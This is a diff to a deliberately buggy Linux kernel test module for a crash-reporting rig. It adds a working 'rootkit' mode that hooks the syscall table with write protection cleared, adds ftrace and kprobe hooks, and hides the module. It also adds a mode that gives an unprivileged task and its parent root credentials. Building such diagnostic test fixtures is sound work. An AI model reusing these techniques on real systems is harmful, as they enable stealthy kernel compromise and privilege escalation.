@@ -16,6 +16,17 @@
  *   tailcall    print a poisoned string from a helper whose last act is the
  *               printk (a tail call: "jmp _printk"), so that the helper has
  *               no frame of its own and printk faults in string()
+ *   rootkit     behave like a simple rootkit: find kallsyms_lookup_name
+ *               through a kprobe, point sys_call_table[__NR_kill] at a
+ *               function of this module (writing the read-only table with
+ *               CR0.WP cleared), hook __x64_sys_kill through ftrace, leave
+ *               a kprobe on commit_creds, and take the module off the
+ *               module list
+ *   rootkit-crash  (from an unprivileged task) give the writer root
+ *               credentials the way such rootkits do (ids written into a
+ *               copy of its credentials) and its parent the kernel's own
+ *               init_cred, clear CR0.WP and crash on a NULL pointer, as the
+ *               rootkit's own code
  *
  * Every path sits in its own function that the compiler may neither inline
  * nor clone (noipa: no .isra/.constprop copies), so backtraces name it as
@@ -31,6 +42,12 @@
 #include <linux/delay.h>
 #include <linux/sched.h>
 #include <linux/string.h>
+#include <linux/version.h>
+#include <linux/kprobes.h>
+#include <linux/ftrace.h>
+#include <linux/cred.h>
+#include <asm/unistd.h>
+#include <asm/processor-flags.h>
 
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("deliberately buggy module for the vmreport crash rig");
@@ -169,6 +186,131 @@ static VRBUG_PATH int vrbug_busy(unsigned int cpu)
 	return 0;
 }
 
+/*
+ * The rootkit scenario. The kernel exports none of what a rootkit needs
+ * since 5.7, so it finds kallsyms_lookup_name the way they do: the address
+ * a kprobe on it resolves to.
+ */
+typedef unsigned long (*vrbug_lookup_t)(const char *name);
+
+static vrbug_lookup_t vrbug_find_lookup(void)
+{
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	vrbug_lookup_t fn;
+
+	if (register_kprobe(&kp))
+		return NULL;
+	fn = (vrbug_lookup_t)kp.addr;
+	unregister_kprobe(&kp);
+	return fn;
+}
+
+/* CR0.WP written directly, past native_write_cr0()'s pinning. */
+static inline void vrbug_wp(bool on)
+{
+	unsigned long cr0;
+
+	asm volatile("mov %%cr0, %0" : "=r"(cr0));
+	if (on)
+		cr0 |= X86_CR0_WP;
+	else
+		cr0 &= ~X86_CR0_WP;
+	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
+}
+
+/* What sys_call_table[__NR_kill] points to afterwards. */
+static VRBUG_PATH long vrbug_hooked_kill(const struct pt_regs *regs)
+{
+	return -EPERM;
+}
+
+static unsigned long vrbug_hook_calls;
+
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
+static void notrace vrbug_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
+				       struct ftrace_ops *op, struct ftrace_regs *fregs)
+#else
+static void notrace vrbug_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
+				       struct ftrace_ops *op, struct pt_regs *regs)
+#endif
+{
+	vrbug_hook_calls++;
+}
+
+static struct ftrace_ops vrbug_ftrace_ops = {
+	.func = vrbug_ftrace_thunk,
+	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
+};
+
+static int vrbug_creds_pre(struct kprobe *p, struct pt_regs *regs)
+{
+	return 0;
+}
+
+static struct kprobe vrbug_creds_probe = {
+	.symbol_name = "commit_creds",
+	.pre_handler = vrbug_creds_pre,
+};
+
+static VRBUG_PATH int vrbug_rootkit(void)
+{
+	vrbug_lookup_t lookup = vrbug_find_lookup();
+	unsigned long *table;
+	int err;
+
+	if (!lookup)
+		return -ENOENT;
+	table = (unsigned long *)lookup("sys_call_table");
+	if (!table)
+		return -ENOENT;
+	preempt_disable();
+	vrbug_wp(false);
+	WRITE_ONCE(table[__NR_kill], (unsigned long)vrbug_hooked_kill);
+	vrbug_wp(true);
+	preempt_enable();
+	err = ftrace_set_filter(&vrbug_ftrace_ops, (unsigned char *)"__x64_sys_kill",
+				strlen("__x64_sys_kill"), 0);
+	if (!err)
+		err = register_ftrace_function(&vrbug_ftrace_ops);
+	if (err)
+		return err;
+	err = register_kprobe(&vrbug_creds_probe);
+	if (err)
+		return err;
+	list_del(&THIS_MODULE->list);
+	pr_info("vrbug: rootkit installed: sys_call_table[%d], __x64_sys_kill hooked, hidden\n",
+		__NR_kill);
+	return 0;
+}
+
+static VRBUG_PATH unsigned long vrbug_rootkit_crash(void)
+{
+	struct cred *cred = prepare_creds();
+	struct vrbug_obj *obj = READ_ONCE(vrbug_current);
+	vrbug_lookup_t lookup = vrbug_find_lookup();
+	const struct cred *init = lookup ? (const struct cred *)lookup("init_cred") : NULL;
+	struct task_struct *parent;
+
+	if (!cred || !init)
+		return 0;
+	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
+	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
+	commit_creds(cred);
+	/* The parent shell is handed the kernel's own credentials, as
+	 * exploits that end in commit_creds(&init_cred) do to their task. */
+	rcu_read_lock();
+	parent = rcu_dereference(current->real_parent);
+	get_cred(init);
+	get_cred(init);
+	rcu_assign_pointer(parent->real_cred, init);
+	rcu_assign_pointer(parent->cred, init);
+	rcu_read_unlock();
+	pr_info("vrbug: pid %d and its parent are root now; patching with CR0.WP off\n",
+		task_pid_nr(current));
+	vrbug_wp(false);
+	return READ_ONCE(obj->value);
+}
+
 static ssize_t vrbug_write(struct file *file, const char __user *ubuf,
 			   size_t len, loff_t *ppos)
 {
@@ -195,6 +337,13 @@ static ssize_t vrbug_write(struct file *file, const char __user *ubuf,
 		vrbug_hungtask();
 	else if (!strcmp(cmd, "tailcall"))
 		vrbug_tailcall();
+	else if (!strcmp(cmd, "rootkit")) {
+		int err = vrbug_rootkit();
+
+		if (err)
+			return err;
+	} else if (!strcmp(cmd, "rootkit-crash"))
+		vrbug_rootkit_crash();
 	else if (sscanf(cmd, "busy %u", &cpu) == 1) {
 		int err = vrbug_busy(cpu);
 
